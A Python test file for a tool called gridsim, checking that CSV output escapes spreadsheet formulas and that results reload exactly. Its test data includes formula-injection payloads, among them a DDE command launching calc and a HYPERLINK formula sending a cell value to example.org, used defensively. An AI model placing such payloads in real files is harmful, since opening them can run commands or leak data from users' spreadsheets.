"""No cell of a CSV file that people open is a formula, and gridsim reads back exactly what it wrote."""

from __future__ import annotations

import csv
import json
import shutil
from pathlib import Path

import pyarrow as pa
import pytest

import gridsim
from gridsim.columns import INPUT_TABLES
from gridsim.errors import Fault
from gridsim.io.report_faults import write_faults
from gridsim.words import Sentence, verbatim
from tests.faults.saving import print_of
from tests.io.formulas import is_number, is_safe
from tests.shared import MINI

NASTY = {
    "G1": "=1+1",
    "G2": '=HYPERLINK("http://example.org?"&A1,"click")',
    "G3": "+G3",
    "R1": "@SUM(1,2)",
    "U1": "-U1",
    "U2": "'U2",
    "U3": "＝U3",
    "U4": "+86",
    "U5": "''U5",
    "U6": "=cmd|' /C calc'!A0",
}


def rows_of(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.reader(file))


@pytest.fixture(scope="module")
def nasty(tmp_path_factory: pytest.TempPathFactory) -> gridsim.Result:
    """The mini scenario with ids that a spreadsheet would compute."""
    folder = Path(shutil.copytree(MINI, tmp_path_factory.mktemp("nasty") / "scenario"))
    for path in folder.glob("*.csv"):
        rows = list(csv.reader(path.read_text("utf-8-sig").splitlines()))
        with path.open("w", encoding="utf-8", newline="") as file:
            csv.writer(file).writerows([[NASTY.get(cell, cell) for cell in row] for row in rows])
    return gridsim.run(gridsim.load(folder))


def test_results_in_csv_hold_no_formula_and_are_read_back(nasty: gridsim.Result, tmp_path: Path) -> None:
    nasty.save(tmp_path / "csv", format="csv")
    nasty.save(tmp_path / "parquet")
    seen = set()
    for path in (tmp_path / "csv").rglob("*.csv"):
        for row in rows_of(path):
            assert all(map(is_safe, row)), (path.name, row)
            seen.update(row)
    assert {"'=1+1", "'@SUM(1,2)", "''U2", "'''U5", "+86", "'＝U3"} <= seen
    assert any(cell.startswith("-") and is_number(cell) for cell in seen) or "0.000" in seen  # numbers are numbers
    again, parquet = gridsim.Result.load(tmp_path / "csv"), gridsim.Result.load(tmp_path / "parquet")
    assert print_of(again) == print_of(parquet)
    parts = pa.concat_tables(again.exact.parts("ledger")).to_pylist()
    assert parts == again.exact.arrow("ledger").to_pylist() == nasty.exact.arrow("ledger").to_pylist()
    for name in INPUT_TABLES:
        if name in parquet.inputs:
            assert again.inputs[name].to_pylist() == parquet.inputs[name].to_pylist()
    for unit in ("@SUM(1,2)/conventional", "@SUM(1,2)/tou"):
        assert str(again.explain(unit, "2021-04")) == str(nasty.explain(unit, "2021-04"))
    assert again.compare(parquet).changes == ()


def test_a_result_of_version_0_1_is_read_as_it_stands(nasty: gridsim.Result, tmp_path: Path) -> None:
    nasty.save(tmp_path, format="csv")
    for path in tmp_path.rglob("*.csv"):
        text = path.read_text("utf-8-sig")
        path.write_text("\ufeff" + text.replace("\"'", '"'), encoding="utf-8")
    manifest = json.loads((tmp_path / "manifest.json").read_text("utf-8"))
    del manifest["files"]
    (tmp_path / "manifest.json").write_text(json.dumps(manifest), encoding="utf-8")
    assert print_of(gridsim.Result.load(tmp_path)) == print_of(nasty)


def test_a_list_of_faults_holds_no_formula(tmp_path: Path) -> None:
    path = tmp_path / "faults.csv"
    values = [*NASTY.values(), "-5.1234", "+7", "\tx", "\rx", "\nx", "\ud800", "a=b", "", None]
    write_faults(
        (Fault("users.csv", 3, "mode", value, Sentence("unknown value"), verbatim("=x")) for value in values), path
    )
    rows = rows_of(path)
    assert len(rows) == 1 + len(values)
    assert all(is_safe(cell) for row in rows for cell in row)
    assert [row[4] for row in rows[-9:]] == ["-5.1234", "+7", "'\tx", "'\rx", "'\nx", "\\ud800", "a=b", "", ""]
    assert {row[6] for row in rows[1:]} == {"'=x"} and {row[1] for row in rows[1:]} == {"3"}
